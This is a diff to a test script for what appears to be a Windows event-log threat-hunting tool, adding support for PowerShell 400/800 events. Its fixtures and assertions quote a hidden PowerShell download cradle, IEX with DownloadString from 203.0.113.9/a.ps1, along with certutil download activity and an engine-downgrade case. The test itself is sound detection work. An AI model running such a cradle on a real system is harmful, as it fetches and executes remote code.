@@ -20,7 +20,7 @@ db = sqlite3.connect(sys.argv[1])
 kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
 assert kinds == {"process": 10, "dns_query": 2, "file_create": 1,
                  "script_block": 5, "service": 2, "task": 1,
-                 "powershell": 1, "wmi": 4}, kinds
+                 "powershell": 4, "wmi": 4}, kinds
 q = lambda sql: db.execute(sql).fetchall()
 # the block of three parts logged 1, 3, 2: joined on part 1, in order
 rows = q("SELECT record_id, script_part, script_text, script_note FROM events"
@@ -54,17 +54,21 @@ assert dns[1] == ("dl.example.test", "::ffff:203.0.113.10;",
                   "C:\\Windows\\System32\\certutil.exe"), dns
 assert q("SELECT target_filename FROM events WHERE kind = 'file_create'") == \
     [("C:\\Users\\Public\\p.exe",)]
-# 4103: the host's command line, what ran
-ps = q("SELECT event_id, image, command_line, script_text FROM events"
+# 4103, Windows PowerShell 400 / 800: the host's command line, what ran
+ps = q("SELECT event_id, image, command_line, script_text, ps_host_name,"
+       " ps_host_version, ps_engine_version FROM events"
        " WHERE kind = 'powershell' ORDER BY time")
 cradle = ("powershell.exe -nop -w hidden -c \"IEX (New-Object "
           "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"")
-assert [(r[0], r[1], r[2]) for r in ps] == [(4103, "powershell.exe",
-    cradle)], ps
-assert ps[0][3].startswith("CommandInvocation(Invoke-Expression)"), ps
-# Windows PowerShell 400/800 are not modelled (yet): not decoded
-assert q("SELECT count(*) FROM events WHERE event_id IN (400, 800)") == \
-    [(0,)]
+iex = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
+assert [r[:3] for r in ps] == [(400, "powershell.exe", cradle),
+    (4103, "powershell.exe", cradle), (800, "powershell.exe", cradle),
+    (400, None, None)], ps
+assert ps[1][3].startswith("CommandInvocation(Invoke-Expression)"), ps
+assert ps[0][3:] == (None, "ConsoleHost", "5.1.19041.1", "5.1.19041.1"), ps
+assert ps[2][3] == iex, ps
+# the 2.0 engine (a downgrade) logs no HostApplication
+assert ps[3][3:] == (None, "ConsoleHost", "2.0", "2.0"), ps
 # WMI: unquoted, unescaped; a filter, consumer and binding join by name
 wmi = q("SELECT event_id, wmi_operation, wmi_filter, wmi_consumer,"
         " wmi_consumer_class, wmi_namespace, wmi_query, image, command_line,"
@@ -156,7 +160,7 @@ assert acts == [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
 n = db.execute("""SELECT count(*) FROM process_events pe JOIN events e
     ON e.id = pe.process WHERE pe.kind = 'powershell'
     AND e.image LIKE '%powershell.exe'""").fetchone()[0]
-assert n == 1, n
+assert n == 3, n
 PYEOF
 expect 1 "scan wks03 -f jsonl" "$EVTXHUNT" scan -q -f jsonl -r "$RULES" "$W"
 "$PY" - "$T/out" <<'PYEOF' && ok "jsonl context" || fail "jsonl context"
@@ -289,8 +293,25 @@ grep -q "\[partial\]" "$T/out" && ok "script-block host is partial" ||
     fail "script-block host not partial"
 grep -q "only PowerShell, services, tasks" "$T/out" &&
     ok "coverage says what was examined" || fail "coverage sentence"
-expect 3 "Windows PowerShell 400/800 alone: not examined (no model)" \
+expect 0 "Windows PowerShell 400/800 alone: examined (HostApplication)" \
     "$EVTXHUNT" scan -r "$RULES" "$W/wks03-windows-powershell.evtx"
+grep -q -F "windows powershell (400, 800): 3" "$T/out" &&
+    ok "coverage counts Windows PowerShell" ||
+    fail "coverage: no Windows PowerShell count"
+expect 0 "Windows PowerShell 400/800 -a -f jsonl" "$EVTXHUNT" scan -q -a \
+    -f jsonl -r "$RULES" "$W/wks03-windows-powershell.evtx"
+"$PY" - "$T/out" <<'PYEOF' && ok "Windows PowerShell lines" || fail "Windows PowerShell lines"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
+assert cov[0]["powershell_classic"] == 3 and cov[0]["powershell_4103"] == 0
+s = [r["event"]["summary"] for r in rows if r.get("kind") == "powershell"]
+assert s[0].startswith("powershell engine 5.1.19041.1 (ConsoleHost) in "
+                       "powershell.exe: powershell.exe -nop"), s
+assert s[1] == ("powershell pipeline in powershell.exe: IEX (New-Object "
+                "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"), s
+assert s[2] == "powershell engine 2.0 (ConsoleHost) [downgrade]: ?", s
+PYEOF
 expect 0 "only services: examined" "$EVTXHUNT" scan -r "$RULES" \
     "$W/wks03-system.evtx"
 expect 0 "only a WMI consumer with its command: examined" "$EVTXHUNT" \
